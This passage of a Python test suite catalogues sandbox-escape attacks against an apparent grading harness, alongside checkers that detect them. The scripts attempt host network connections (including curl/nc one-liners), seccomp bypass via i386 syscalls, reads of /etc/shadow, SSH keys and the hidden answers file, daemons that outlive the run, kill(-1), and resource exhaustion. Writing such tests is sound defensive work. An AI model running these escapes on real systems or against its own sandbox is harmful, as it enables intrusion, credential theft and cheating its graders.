            report(complete=True, written_mb=written)
        except OSError as exc:
            report(complete=False, written_mb=written, errno=exc.errno, error=repr(exc))
    """


def check_fill(where: str, cap_key: str) -> Callable[[Outcome], list[str]]:
    def check(o: Outcome) -> list[str]:
        cap = o.attack.limits[cap_key]
        written, err = o.out.get("written_mb"), o.out.get("errno")
        if o.out.get("complete"):
            return [f"wrote {written} MB to {where} ({cap_key}={cap}) without an error"]
        if err is not None and err != errno.ENOSPC:
            return []  # stopped another way (no such folder, read-only): nothing got out either
        if written is not None and written > cap + 1:
            return [f"wrote {written} MB to {where} before ENOSPC ({cap_key}={cap})"]
        return []
    return check


def check_timeout(o: Outcome) -> list[str]:
    limit = o.attack.timeout + 8
    problems = []
    if not o.result.timed_out:
        problems.append(f"not reported as timed out (exit {o.result.exit_code}, killed_by {o.result.killed_by})")
    if o.elapsed > limit:
        problems.append(f"run() took {o.elapsed:.1f} s for a {o.attack.timeout:.0f} s timeout")
    return problems


def check_kill_all(o: Outcome) -> list[str]:
    if o.out.get("refused"):
        return [f"host processes may be in reach ({o.out['refused']}): kill(-1, SIGKILL) was not attempted"]
    if not o.out.get("killed"):
        return ["the script did not report its kill(-1, SIGKILL)"]
    return harness_can_fork(o)


def check_daemon(o: Outcome) -> list[str]:
    changes = _diff(o.ws_after_run, o.victim.ws_state())
    return [f"the workspace changed after run() returned: {', '.join(changes)}"] if changes else []


def check_env(o: Outcome) -> list[str]:
    keys = set(o.out.get("keys") or [])
    leaked = sorted(k for k in keys if any(s in k for s in ("API_KEY", "TOKEN", "SECRET", "PASSWORD")))
    return [f"the script's environment holds {', '.join(leaked)}"] if leaked else []


def check_hoard(o: Outcome) -> list[str]:
    if o.result.killed_by == "memory" or not o.out.get("complete"):
        return []
    return [f"held {o.out.get('held_mb')} MB in unmapped memfd files under memory_mb={o.attack.limits['memory_mb']} "
            f"(killed_by {o.result.killed_by}, survived 3 s: {bool(o.out.get('survived'))}, peak "
            f"{o.result.peak_memory_mb} MB)"]


def check_unlinked(o: Outcome) -> list[str]:
    if o.result.killed_by == "disk" or not o.out.get("complete"):
        return []
    return [f"held {o.out.get('held_mb')} MB of workspace disk in unlinked files under disk_mb="
            f"{o.attack.limits['disk_mb']} (killed_by {o.result.killed_by}, survived 3 s: {bool(o.out.get('survived'))})"]


def check_flood(o: Outcome) -> list[str]:
    problems = []
    if o.out.get("complete"):
        problems.append(f"wrote {o.out.get('written_mb')} MB to stdout under file_size_mb="
                        f"{o.attack.limits['file_size_mb']}: the harness's capture is not capped")
    if len(o.result.stdout or "") > 200_000:
        problems.append(f"the harness handed back {len(o.result.stdout)} characters of stdout")
    return problems


def _compat_probe() -> str | None:
    """None when this machine runs i386 or x32 system calls (the sandbox must refuse them); else why not."""
    if os.uname().machine != "x86_64":
        return "other ABIs are only tried on x86_64"
    code = ("import ctypes, mmap\n"
            "buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)\n"
            "buf.write(bytes.fromhex('53b814000000cd805bc3'))\n"
            "f = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))\n"
            "libc = ctypes.CDLL(None)\nlibc.syscall.restype = ctypes.c_long\n"
            "print(f() > 0 or libc.syscall(0x40000000 | 39) > 0)")
    try:
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=30)
    except (OSError, subprocess.SubprocessError) as exc:
        return f"could not probe the kernel's other ABIs: {exc}"
    return None if done.stdout.strip() == "True" else "this kernel runs neither i386 nor x32 system calls"


def check_hardlink(o: Outcome) -> list[str]:
    path = o.victim.ws / "submission.csv"
    with contextlib.suppress(OSError):
        if os.path.samefile(path, o.victim.answers):
            return ["submission.csv in the workspace is a hard link to the answers file"]
    return []


# --------------------------------------------------------------------------- the catalogue

_TCP_CODE = ("import socket; s = socket.create_connection(('127.0.0.1', %d), timeout=3); "
             "s.sendall(b'%s from a child'); s.close(); print('CHILD-CONNECTED')")

NETWORK = [
    Attack("net_tcp_connect", "network", """
        import socket
        try:
            s = socket.create_connection(("127.0.0.1", V["tcp_port"]), timeout=3)
            s.sendall(V["tag"].encode() + b" tcp")
            s.close()
            report(connected=True)
        except OSError as exc:
            report(connected=False, error=repr(exc))
    """, check=flag("connected", "connected to the host's TCP listener")),
    Attack("net_udp_sendto", "network", """
        import socket
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.sendto(V["tag"].encode() + b" udp", ("127.0.0.1", V["udp_port"]))
            report(sent=True)
        except OSError as exc:
            report(sent=False, error=repr(exc))
    """),
    Attack("net_dns_getaddrinfo", "network", """
        import socket, struct
        try:  # the machine's resolver (this one may not resolve anything: the query below is the local proof)
            report(resolved=sorted({a[4][0] for a in socket.getaddrinfo("example.com", 80)}))
        except OSError as exc:
            report(resolved=[], error=repr(exc))
        # a DNS query to a "resolver" on the host's 127.0.0.1 (the UDP listener)
        name = b"".join(bytes([len(p)]) + p for p in (V["tag"].encode(), b"example", b"com")) + b"\\0"
        query = struct.pack(">HHHHHH", 0x5254, 0x0100, 1, 0, 0, 0) + name + struct.pack(">HH", 1, 1)
        try:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", V["udp_port"]))
            report(query_sent=True)
        except OSError as exc:
            report(query_sent=False, query_error=repr(exc))
    """, check=flag("resolved", "resolved a name through DNS")),
    Attack("net_unix_path_connect", "network", """
        import socket
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect(V["host_sock"])
            s.sendall(b"unix path")
            report(connected=True)
        except OSError as exc:
            report(connected=False, error=repr(exc))
    """, check=flag("connected", "connected to the host's unix socket")),
    Attack("net_unix_abstract_connect", "network", """
        import socket
        try:
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            s.connect("\\0" + V["abstract"])
            s.sendall(b"abstract")
            report(connected=True)
        except OSError as exc:
            report(connected=False, error=repr(exc))
    """, check=flag("connected", "connected to the host's abstract unix socket")),
    Attack("net_netlink_socket", "network", """
        import socket
        try:
            socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0).close()
            report(created=True)
        except OSError as exc:
            report(created=False, error=repr(exc))
    """, check=flag("created", "created an AF_NETLINK socket")),
    Attack("net_packet_socket", "network", """
        import socket
        try:
            socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()
            report(created=True)
        except OSError as exc:
            report(created=False, error=repr(exc))
    """, check=flag("created", "created an AF_PACKET raw socket")),
    Attack("net_vsock_socket", "network", """
        import socket
        try:  # creation only: a connect could reach the machine's own control channel
            socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM).close()
            report(created=True)
        except OSError as exc:
            report(created=False, error=repr(exc))
    """, check=flag("created", "created an AF_VSOCK socket")),
    Attack("net_ip_families_ctypes", "network", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        created = []
        for family, name in ((2, "AF_INET"), (10, "AF_INET6")):
            for kind, kname in ((1, "STREAM"), (2, "DGRAM")):
                fd = libc.socket(family, kind, 0)
                if fd >= 0:
                    created.append(name + "/" + kname)
                    libc.close(fd)
        report(created=created, errno=ctypes.get_errno())
    """, check=flag("created", "created IP sockets through libc")),
    Attack("net_ctypes_connect", "network", """
        import ctypes, socket, struct
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.socket(2, 1, 0)
        if fd < 0:
            report(connected=False, error="socket: errno %d" % ctypes.get_errno())
        else:
            addr = struct.pack("=H", 2) + struct.pack(">H", V["tcp_port"]) + socket.inet_aton("127.0.0.1") + bytes(8)
            rc = libc.connect(fd, addr, len(addr))
            if rc == 0:
                msg = V["tag"].encode() + b" ctypes"
                libc.write(fd, msg, len(msg))
            report(connected=rc == 0, error="connect: errno %d" % ctypes.get_errno())
    """, check=flag("connected", "connected to the host's TCP listener through libc")),
    Attack("net_subprocess_child", "network", f"""
        import subprocess
        code = {_TCP_CODE!r} % (V["tcp_port"], V["tag"])
        done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=15)
        report(connected="CHILD-CONNECTED" in done.stdout, child=done.stderr[-300:])
    """, check=flag("connected", "a subprocess connected to the host's TCP listener")),
    Attack("net_python_c_grandchild", "network", f"""
        import subprocess
        code = {_TCP_CODE!r} % (V["tcp_port"], V["tag"])
        outer = "import subprocess, sys; r = subprocess.run([sys.executable, '-c', %r], capture_output=True, " \\
                "text=True); print(r.stdout, r.stderr[-300:])" % code
        done = subprocess.run([sys.executable, "-c", outer], capture_output=True, text=True, timeout=20)
        report(connected="CHILD-CONNECTED" in done.stdout, child=done.stdout[-300:])
    """, check=flag("connected", "a python -c grandchild connected to the host's TCP listener")),
    Attack("net_compat_syscalls", "network", """
        import ctypes, mmap
        libc = ctypes.CDLL(None, use_errno=True)
        libc.syscall.restype = ctypes.c_long
        def machine_code(code):  # i386 system calls through int 0x80 from this 64-bit process
            buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            buf.write(code)
            address = ctypes.addressof(ctypes.c_char.from_buffer(buf))
            return buf, ctypes.CFUNCTYPE(ctypes.c_int)(address)
        keep1, getpid32 = machine_code(bytes.fromhex("53b814000000cd805bc3"))
        keep2, socket32 = machine_code(bytes.fromhex("53b867010000bb02000000b90100000031d2cd805bc3"))
        results = {"i386 getpid": getpid32(), "i386 socket(AF_INET)": socket32(),
                   "x32 getpid": libc.syscall(0x40000000 | 39),
                   "x32 socket(AF_INET)": libc.syscall(0x40000000 | 41, 2, 1, 0)}
        report(results=results, bypassed=[k for k, v in results.items() if v >= 0])
    """, check=flag("bypassed", "system calls of another ABI got past the filter"), probe=lambda: _compat_probe()),
    Attack("net_os_system_curl_nc", "network", """
        import shutil
        codes = {}
        if shutil.which("curl"):
            codes["curl"] = os.system("curl -s -m 3 -o /dev/null http://127.0.0.1:%d/%s" % (V["tcp_port"], V["tag"]))
        if shutil.which("nc"):
            codes["nc"] = os.system("echo %s | nc -w 2 127.0.0.1 %d" % (V["tag"], V["tcp_port"]))
        report(exit_codes=codes)
    """, needs_any_exe=("curl", "nc")),
]

READS = [
    Attack("read_answers", "reads", """
        steal(V["answers"])
    """),
    Attack("read_run_json", "reads", """
        data = steal(V["run_json"])
        listing(V["run_dir"])
    """),
    Attack("read_task_folder", "reads", """
        listing(V["task_dir"])
        for name in ("train.csv", "test.csv", "task.toml"):
            steal(os.path.join(V["task_dir"], name))
    """),
    Attack("read_sibling_workspace", "reads", """
        listing(os.path.dirname(os.path.dirname(V["ws"])))
        steal(V["sibling_labels"])
    """),
    Attack("read_root_home", "reads", """
        listing("/root")
        for name in (".bashrc", ".profile"):
            steal(os.path.join("/root", name))
        for name in (".gitconfig", ".npmrc", ".ssh/id_rsa", ".ssh/id_ed25519", ".ssh/authorized_keys"):
            can_open(os.path.join("/root", name))
    """),
    Attack("read_etc_shadow", "reads", """
        for path in ("/etc/shadow", "/etc/gshadow", "/etc/sudoers", "/etc/ssh/ssh_host_ed25519_key",
                     "/etc/ssh/ssh_host_rsa_key"):
            can_open(path)
    """),
    Attack("read_host_proc_1", "reads", """
        for name in ("environ", "cmdline", "status"):
            steal("/proc/1/" + name)
    """),
    Attack("read_host_listing", "reads", """
        for path in ("/", "/root", "/work", "/home", "/var", "/run", "/mnt", "/srv", "/opt", "/tmp",
                     V["root"], V["run_dir"], V["repo"]):
            listing(path)
    """),
    Attack("read_host_tmp", "reads", """
        listing("/tmp")
        steal(V["tmp_plant"])
    """),
    Attack("read_repo_files", "reads", """
        for path in (V["repo_answers"], os.path.join(V["repo"], "pyproject.toml"),
                     os.path.join(V["repo"], "tests", "support.py")):
            steal(path)
        listing(V["repo"])
    """),
    Attack("read_harness_proc_links", "reads", """
        h = V["harness_pid"]
        for path in ("/proc/%d/root%s" % (h, V["answers"]), "/proc/1/root%s" % V["answers"],
                     "/proc/%d/cwd/pyproject.toml" % h):
            steal(path)
        try:
            fds = os.listdir("/proc/%d/fd" % h)
        except OSError as exc:
            fds = []
            report(fd_error=repr(exc))
        for fd in fds:
            path = "/proc/%d/fd/%s" % (h, fd)
            try:
                if os.path.isfile(path):  # regular files only: a pipe would block
                    steal(path)
            except OSError:
                pass
        report(fds_seen=len(fds))
    """),
    Attack("read_inherited_fds", "reads", """
        # A descriptor of a host folder (a bind source, the harness's own) opens ".." in the host's tree.
        found = {}
        for fd in sorted(int(n) for n in os.listdir("/proc/self/fd")):
            try:
                found[fd] = os.readlink("/proc/self/fd/%d" % fd)
            except OSError:
                continue
            if fd < 3:
                continue
            top = fd
            try:
                for level in range(12):
                    top = os.open("..", os.O_RDONLY | os.O_DIRECTORY, dir_fd=top)
                data = steal("/proc/self/fd/%d/%s" % (top, V["answers"].lstrip("/")))
                found[fd] += " -> climbed to the top" + (", read the answers" if data else "")
            except OSError as exc:
                found[fd] += " (%r)" % exc
        report(fds=found)
    """),
    Attack("read_pyarrow_csv", "reads", """
        import pyarrow.csv
        try:
            table = pyarrow.csv.read_csv(V["answers"])
            text = table.to_pandas().to_csv()
            print(text)
            open("stolen.txt", "w").write(text)
            report(read=True)
        except Exception as exc:
            report(read=False, error=repr(exc)[:300])
    """, needs=("pyarrow",)),
    Attack("read_sqlite_attach", "reads", """
        import sqlite3
        db = sqlite3.connect(":memory:", uri=True)
        try:
            db.execute("ATTACH DATABASE ? AS stolen", ("file:%s?mode=ro" % V["sqlite_db"],))
            rows = db.execute("SELECT * FROM stolen.labels").fetchall()
            print(rows)
            report(read=True)
        except sqlite3.Error as exc:
            report(read=False, error=repr(exc))
    """),
    Attack("read_ctypes_libc", "reads", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        fd = libc.open(V["answers"].encode(), 0)
        if fd < 0:
            report(read=False, error="open: errno %d" % ctypes.get_errno())
        else:
            buf = ctypes.create_string_buffer(65536)
            n = libc.read(fd, buf, 65536)
            print(buf.raw[:max(n, 0)].decode("utf-8", "replace"))
            report(read=n > 0)
    """),
    Attack("read_raw_disk_mknod", "reads", """
        import stat
        major, minor = V["root_dev"]
        made = attempt("mknod the host's root block device", lambda: os.mknod(
            "disk.blk", stat.S_IFBLK | 0o600, os.makedev(major, minor)))
        got = None
        if made:
            try:
                with open("disk.blk", "rb") as handle:
                    got = len(handle.read(4096))
            except OSError as exc:
                got = repr(exc)
        report(mknod=made, read=got)
    """, check=flag("mknod", "created a block device node of the host's disk")),
]

WRITES = [
    Attack("write_plain_open", "writes", """
        attempt("sentinel", lambda: open(V["sentinel"], "w").write("pwned\\n"))
        attempt("new file", lambda: open(os.path.join(V["run_dir"], V["tag"] + "-plain.txt"), "w").write("x"))
        attempt("task", lambda: open(os.path.join(V["task_dir"], "train.csv"), "a").write("pwned\\n"))
    """),
    Attack("write_dir_fd", "writes", """
        ws = os.open(".", os.O_RDONLY | os.O_DIRECTORY)
        up = "../../../"
        attempt("new file", lambda: os.close(os.open(up + V["tag"] + "-dirfd.txt", os.O_CREAT | os.O_WRONLY, 0o644,
                                                      dir_fd=ws)))
        attempt("sentinel", lambda: os.write(os.open(up + "sentinel.txt", os.O_WRONLY | os.O_TRUNC, dir_fd=ws),
                                             b"pwned"))
    """),
    Attack("write_rename_replace", "writes", """
        open("moved.txt", "w").write("x")
        attempt("replace out", lambda: os.replace("moved.txt", os.path.join(V["run_dir"], V["tag"] + "-moved")))
        attempt("rename sentinel in", lambda: os.rename(V["sentinel"], "stolen-sentinel.txt"))
        attempt("rename answers in", lambda: os.rename(V["answers"], "submission.csv"))
    """),
    Attack("write_hardlink", "writes", """
        if attempt("link sentinel", lambda: os.link(V["sentinel"], "sentinel-link")):
            attempt("write through link", lambda: open("sentinel-link", "a").write("pwned\\n"))
        attempt("link answers", lambda: os.link(V["answers"], "answers-link"))
    """),
    Attack("write_symlink_through", "writes", """
        attempt("symlink", lambda: os.symlink(V["sentinel"], "sentinel-symlink"))
        attempt("write through symlink", lambda: open("sentinel-symlink", "w").write("pwned\\n"))
        attempt("dir symlink", lambda: os.symlink(V["run_dir"], "run-symlink"))
        attempt("write through dir symlink",
                lambda: open(os.path.join("run-symlink", V["tag"] + "-symlink.txt"), "w").write("x"))
    """),
    Attack("write_proc_root", "writes", """
        for base in ("/proc/self/root", "/proc/%d/root" % V["harness_pid"], "/proc/1/root",
                     "/proc/%d/cwd/.." % V["harness_pid"]):
            attempt("sentinel via " + base, lambda: open(base + V["sentinel"], "a").write("pwned\\n"))
            attempt("new file via " + base,
                    lambda: open(base + os.path.join(V["run_dir"], V["tag"] + "-proc.txt"), "w").write("x"))
    """),
    Attack("write_dev_shm", "writes", """
        attempt("/dev/shm", lambda: open("/dev/shm/" + V["tag"] + "-shm", "w").write("x"))
    """),
    Attack("write_host_tmp", "writes", """
        attempt("/tmp", lambda: open("/tmp/" + V["tag"] + "-tmp", "w").write("x"))
        attempt("/var/tmp", lambda: open("/var/tmp/" + V["tag"] + "-tmp", "w").write("x"))
        attempt("/", lambda: open("/" + V["tag"] + "-root", "w").write("x"))
        attempt("plant", lambda: open(V["tmp_plant"], "a").write("pwned\\n"))
    """),
    Attack("write_shell_child", "writes", """
        import subprocess
        cmd = "echo pwned > '%s'; echo x > '%s/%s-sh'; echo x > /tmp/%s-sh" % (
            V["sentinel"], V["run_dir"], V["tag"], V["tag"])
        done = subprocess.run(["sh", "-c", cmd], capture_output=True, text=True)
        report(status=done.returncode, stderr=done.stderr[-300:])
    """),
    Attack("write_ctypes_fopen", "writes", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.fopen.restype = ctypes.c_void_p
        opened = []
        for path in (V["sentinel"], os.path.join(V["run_dir"], V["tag"] + "-fopen.txt")):
            f = libc.fopen(path.encode(), b"w")
            if f:
                libc.fputs(b"pwned\\n", ctypes.c_void_p(f))
                libc.fclose(ctypes.c_void_p(f))
                opened.append(path)
        report(opened=opened, errno=ctypes.get_errno())
    """),
    Attack("write_pyarrow_parquet", "writes", """
        import pyarrow as pa, pyarrow.parquet as pq
        attempt("parquet", lambda: pq.write_table(pa.table({"x": [1, 2]}),
                                                  os.path.join(V["run_dir"], V["tag"] + ".parquet")))
    """, needs=("pyarrow",)),
    Attack("write_sqlite_db", "writes", """
        import sqlite3
        def create():
            db = sqlite3.connect(os.path.join(V["run_dir"], V["tag"] + ".db"))
            db.execute("CREATE TABLE t (x)")
            db.commit()
        attempt("sqlite", create)
        def alter():
            db = sqlite3.connect(V["sqlite_db"])
            db.execute("UPDATE labels SET label = 'forged'")
            db.commit()
        attempt("update labels", alter)
    """),
    Attack("write_numpy", "writes", """
        import numpy as np
        a = np.arange(10)
        attempt("np.save", lambda: np.save(os.path.join(V["run_dir"], V["tag"] + ".npy"), a))
        attempt("tofile", lambda: a.tofile(os.path.join(V["run_dir"], V["tag"] + ".bin")))
    """, needs=("numpy",)),
    Attack("write_lightgbm_model", "writes", """
        import numpy as np, lightgbm as lgb
        X = np.arange(200, dtype=float).reshape(100, 2)
        booster = lgb.train({"verbose": -1, "num_threads": 1}, lgb.Dataset(X, X[:, 0] % 2), num_boost_round=2)
        attempt("save_model", lambda: booster.save_model(os.path.join(V["run_dir"], V["tag"] + "-lgb.txt")))
    """, needs=("lightgbm", "numpy")),
    Attack("write_joblib_dump", "writes", """
        import joblib
        attempt("dump", lambda: joblib.dump({"a": 1}, os.path.join(V["run_dir"], V["tag"] + ".joblib")))
    """, needs=("joblib",)),
    Attack("write_python_installation", "writes", """
        import subprocess
        writable = []
        existing = [os.path.join(V["venv_site"], "__editable__.tabcoder-0.1.0.pth"),
                    os.path.join(V["package_dir"], "grading.py"), os.path.join(V["base_site"], "README.txt"),
                    os.__file__, sys.executable, "/usr/bin/env"]
        for path in existing:  # opened for appending, nothing written: the file stays as it was
            try:
                os.close(os.open(path, os.O_WRONLY | os.O_APPEND))
                writable.append(path)
            except OSError:
                pass
        for folder in (V["venv_site"], V["base_site"], V["package_dir"]):
            path = os.path.join(folder, V["tag"] + ".pth")
            try:
                os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o644))
                os.unlink(path)
                writable.append(folder + "/ (new file)")
            except OSError:
                pass
        sh = subprocess.run(["sh", "-c", "echo '# harmless' > '%s/%s-sh.pth'" % (V["venv_site"], V["tag"])],
                            capture_output=True)
        report(writable=writable, shell_status=sh.returncode)
    """, check=flag("writable", "the Python installation is writable")),
    Attack("write_metadata", "writes", """
        attempt("chmod", lambda: os.chmod(V["sentinel"], 0o777))
        attempt("utime", lambda: os.utime(V["sentinel"], (0, 0)))
        attempt("truncate", lambda: os.truncate(V["sentinel"], 0))
        attempt("unlink", lambda: os.unlink(os.path.join(V["run_dir"], "unlink-me.txt")))
        attempt("mkdir", lambda: os.mkdir(os.path.join(V["run_dir"], V["tag"] + "-dir")))
    """),
]

_DAEMON_SH = ("sleep 1.5; echo 'id,target' > '%s/submission.csv'; echo pwned > '%s'; "
              "echo x > '%s/%s-daemon'; sleep 30")

PROCESSES = [
    Attack("proc_setsid_double_fork", "processes", f"""
        import time
        cmd = {_DAEMON_SH!r} % (V["ws"], V["sentinel"], V["run_dir"], V["tag"])
        pid = os.fork()
        if pid == 0:
            os.setsid()
            if os.fork() == 0:
                for fd in (0, 1, 2):
                    os.close(fd)
                os.execv("/bin/sh", ["sh", "-c", cmd, V["tag"] + "-daemon"])
            os._exit(0)
        os.waitpid(pid, 0)
        report(started=True)
    """, check=check_daemon, linger=3.0),
    Attack("proc_nohup_new_session", "processes", f"""
        import subprocess
        cmd = {_DAEMON_SH!r} % (V["ws"], V["sentinel"], V["run_dir"], V["tag"])
        subprocess.Popen(["nohup", "sh", "-c", cmd, V["tag"] + "-nohup"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        subprocess.Popen([sys.executable, "-c", "import time, signal; signal.signal(signal.SIGHUP, signal.SIG_IGN);"
                          " time.sleep(1.5); open(%r, 'w').write('pwned')" % V["sentinel"], V["tag"] + "-popen"],
                         start_new_session=True)
        report(started=True)
    """, check=check_daemon, linger=3.0),
    Attack("proc_kill_harness", "processes", """
        import signal
        attempt("kill harness", lambda: os.kill(V["harness_pid"], signal.SIGUSR1))
        attempt("killpg harness", lambda: os.killpg(V["harness_pgid"], signal.SIGUSR1))
        attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGUSR1))
    """),
    Attack("proc_kill_victim", "processes", """
        import signal
        attempt("kill victim", lambda: os.kill(V["victim_pid"], signal.SIGKILL))
    """),
    Attack("proc_kill_all", "processes", """
        import signal, time
        seen, unsure = [], None
        try:
            for pid in os.listdir("/proc"):
                if pid.isdigit():
                    try:
                        with open("/proc/%s/cmdline" % pid, "rb") as handle:
                            if V["victim_tag"].encode() in handle.read():
                                seen.append(pid)
                    except OSError:
                        pass
        except OSError as exc:
            unsure = "cannot read /proc (%r)" % exc
        if unsure is None and os.path.exists("/proc/%d" % V["harness_pid"]):
            unsure = "the harness's pid %d exists here" % V["harness_pid"]
        if seen or unsure:  # the host's processes may be in reach: kill(-1) could take down the machine
            report(refused=unsure or "the victim is visible as pid %s" % ",".join(seen))
        else:
            mine = os.fork()  # one process kill(-1) may reach: proof that it ran
            if mine == 0:
                time.sleep(30)
                os._exit(0)
            try:
                os.kill(-1, signal.SIGKILL)
                outcome = "sent"
            except OSError as exc:
                outcome = repr(exc)
            report(killed=outcome, own_child_killed=os.waitpid(mine, 0)[1] == signal.SIGKILL)
    """, check=check_kill_all),
    Attack("proc_ptrace_attach", "processes", """
        import ctypes
        libc = ctypes.CDLL(None, use_errno=True)
        libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
        libc.ptrace.restype = ctypes.c_long
        seized, errors = [], {}
        for name, pid in (("harness", V["harness_pid"]), ("victim", V["victim_pid"])):
            if libc.ptrace(0x4206, pid, None, None) == 0:  # PTRACE_SEIZE: attaches without stopping the tracee
                seized.append(name)
                libc.ptrace(17, pid, None, None)  # PTRACE_DETACH (exiting detaches anyway)
            else:
                errors[name] = ctypes.get_errno()
        report(seized=seized, errors=errors)
    """, check=flag("seized", "ptrace attached to")),
    Attack("proc_fork_storm", "processes", """
        import signal, time
        kids, error = [], None
        for i in range(500):
            try:
                pid = os.fork()
            except OSError as exc:
                error = repr(exc)
                break
            if pid == 0:
                time.sleep(20)
                os._exit(0)
            kids.append(pid)
        report(forked=len(kids), error=error)
        for pid in kids:
            os.kill(pid, signal.SIGKILL)
        for pid in kids:
            os.waitpid(pid, 0)
    """, check=check_fork_storm, limits={"pids": 64}, timeout=40),
    Attack("proc_new_namespaces", "processes", """
        import ctypes, subprocess
        libc = ctypes.CDLL(None, use_errno=True)
        unshared = []
        for name, flag in (("user", 0x10000000), ("net", 0x40000000), ("mount", 0x00020000), ("pid", 0x20000000),
                           ("user+mount", 0x10020000)):
            pid = os.fork()
            if pid == 0:
                os._exit(0 if libc.unshare(flag) == 0 else 1)
            if os.waitstatus_to_exitcode(os.waitpid(pid, 0)[1]) == 0:
                unshared.append(name)
        commands = {}
        for cmd in (["unshare", "-r", "id", "-u"], ["unshare", "-rn", "true"],
                    ["bwrap", "--ro-bind", "/", "/", "--unshare-user", "id", "-u"]):
            try:
                done = subprocess.run(cmd, capture_output=True, text=True, timeout=10)
                commands[" ".join(cmd)] = [done.returncode, done.stdout.strip()[:40]]
            except (OSError, subprocess.SubprocessError) as exc:
                commands[" ".join(cmd)] = [None, repr(exc)[:80]]
        report(unshared=unshared, commands=commands,
               worked=[c for c, (code, out) in commands.items() if code == 0])
    """, check=both(flag("unshared", "created namespaces"), flag("worked", "namespace tools worked"))),
    Attack("proc_privileges", "processes", """
        import subprocess
        status = dict(line.split(":", 1) for line in open("/proc/self/status").read().splitlines() if ":" in line)
        caps = {k: int(status[k].strip(), 16) for k in ("CapPrm", "CapEff", "CapAmb")}
        os.makedirs("mnt", exist_ok=True)
        mount = subprocess.run(["mount", "-t", "tmpfs", "tmpfs", "mnt"], capture_output=True, text=True)
        umount = subprocess.run(["umount", "mnt"], capture_output=True, text=True) if mount.returncode == 0 else None
        report(uid=os.getuid(), euid=os.geteuid(), no_new_privs=status["NoNewPrivs"].strip(),
               caps={k: hex(v) for k, v in caps.items()},
               privileged=[k for k, v in caps.items() if v] + (["uid 0"] if 0 in os.getresuid() else [])
                          + (["NoNewPrivs off"] if status["NoNewPrivs"].strip() != "1" else [])
                          + (["setuid mount worked"] if mount.returncode == 0 else []))
    """, check=flag("privileged", "the script holds privileges")),
    Attack("proc_host_processes_visible", "processes", """
        pids = [p for p in os.listdir("/proc") if p.isdigit()]
        victim = []
        for pid in pids:
            try:
                with open("/proc/%s/cmdline" % pid, "rb") as handle:
                    if V["victim_tag"].encode() in handle.read():
                        victim.append(pid)
            except OSError:
                pass
        report(processes=len(pids), victim_seen=victim,
               harness_pid_exists=os.path.exists("/proc/%d" % V["harness_pid"]))
    """, check=flag("victim_seen", "the victim process is visible in /proc")),
]

RESOURCES = [
    Attack("res_memory_children", "resources", """
        import time
        SIZE = 1536 * 1024 * 1024
        r, w = os.pipe()
        kids = []
        for i in range(3):
            pid = os.fork()
            if pid == 0:
                try:
                    block = b"\\1" * SIZE  # filled, so every page is touched
                    os.write(w, b"1")
                    time.sleep(6)
                except MemoryError:
                    os.write(w, b"0")
                os._exit(0)
            kids.append(pid)
        os.close(w)
        answers = b""
        while len(answers) < 3:
            chunk = os.read(r, 3)
            if not chunk:
                break
            answers += chunk
        report(held=answers.count(b"1"), failed=answers.count(b"0"))
        for pid in kids:
            os.waitpid(pid, 0)
    """, check=check_memory, limits={"memory_mb": 2048}, timeout=60),
    Attack("res_huge_file", "resources", """
        chunk = b"\\0" * (1 << 20)
        written = 0
        try:
            with open("big.bin", "wb") as handle:
                for i in range(200):
                    handle.write(chunk)
                    written += 1
            report(complete=True, written_mb=written)
        except OSError as exc:
            report(complete=False, written_mb=written, error=repr(exc), errno=exc.errno)
    """, check=check_huge_file, limits={"file_size_mb": 64}),
    Attack("res_disk_fill", "resources", """
        chunk = b"\\1" * (10 << 20)
        written = 0
        try:
            for i in range(40):
                with open("fill-%02d.bin" % i, "wb") as handle:
                    handle.write(chunk)
                written += 10
            report(complete=True, written_mb=written)
        except OSError as exc:
            report(complete=False, written_mb=written, error=repr(exc))
    """, check=check_disk, limits={"disk_mb": 128}, timeout=60),
    Attack("res_disk_unlinked", "resources", """
        import time
        chunk = b"\\1" * (10 << 20)
        held, fds = 0, []
        try:
            for i in range(4):  # 4 x 100 MB in files that are open but no longer in any folder
                fd = os.open("hidden-%d" % i, os.O_CREAT | os.O_WRONLY, 0o600)
                os.unlink("hidden-%d" % i)
                fds.append(fd)
                for j in range(10):
                    os.write(fd, chunk)
                    held += 10
            report(held_mb=held, complete=True)
            time.sleep(3)  # the disk watch polls meanwhile
            report(survived=True)
        except OSError as exc:
            report(held_mb=held, complete=False, error=repr(exc))
    """, check=check_unlinked, limits={"disk_mb": 128}, timeout=30),
    Attack("res_tmp_fill", "resources", fill_script("/tmp", 200), check=check_fill("/tmp", "tmp_mb"),
           limits={"tmp_mb": 64}),
    Attack("res_dev_shm_fill", "resources", fill_script("/dev/shm", 768), check=check_fill("/dev/shm", "tmp_mb"),
           limits={"tmp_mb": 64, "memory_mb": 512}),
    Attack("res_memfd_hoard", "resources", """
        import time
        chunk = b"\\1" * (16 << 20)
        fds, held = [], 0
        try:
            for i in range(6):  # 6 x 256 MB in memory files that no process maps: no RSS, no address space
                fd = os.memfd_create("hoard-%d" % i)
                fds.append(fd)
                for j in range(16):
                    os.write(fd, chunk)
                    held += 16
            report(held_mb=held, complete=True)
            time.sleep(3)
